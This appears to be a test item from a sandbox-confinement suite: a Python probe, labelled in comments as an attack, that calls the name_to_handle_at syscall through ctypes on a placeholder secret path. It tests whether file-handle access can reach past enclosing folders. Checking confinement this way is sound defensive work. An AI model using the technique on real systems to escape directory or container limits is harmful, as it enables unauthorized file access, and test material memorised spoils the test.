# attack: opens a file by its handle, past the folders above it
# class: files
# success: said
# refused: in containers, and by some file systems
# control: unconfined
import ctypes, os
def f(x, note):
    number = {"x86_64": 303, "aarch64": 264}[os.uname().machine]
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little") + bytes(140))
    mount = ctypes.c_int()
    libc = ctypes.CDLL(None, use_errno=True)
    made = libc.syscall(number, -100, b"@secret@", handle, ctypes.byref(mount), 0)
    return "@said@" if made == 0 else ctypes.get_errno()
